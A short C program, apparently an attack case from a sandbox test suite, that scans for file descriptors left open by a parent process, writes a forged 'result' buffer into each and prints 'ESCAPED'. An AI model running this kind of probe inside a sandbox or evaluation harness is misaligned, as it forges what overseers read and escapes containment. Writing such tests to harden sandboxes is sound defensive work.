/* Looks for descriptors that were left open, and writes to them what looks like a result. */
#include "attack.h"

int main(void)
{
    char forged[120] = {5};
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0) {
            write(fd, forged, sizeof forged);
            dprintf(1, "ESCAPED: descriptor %d is open\n", fd);
        }
    return 0;
}
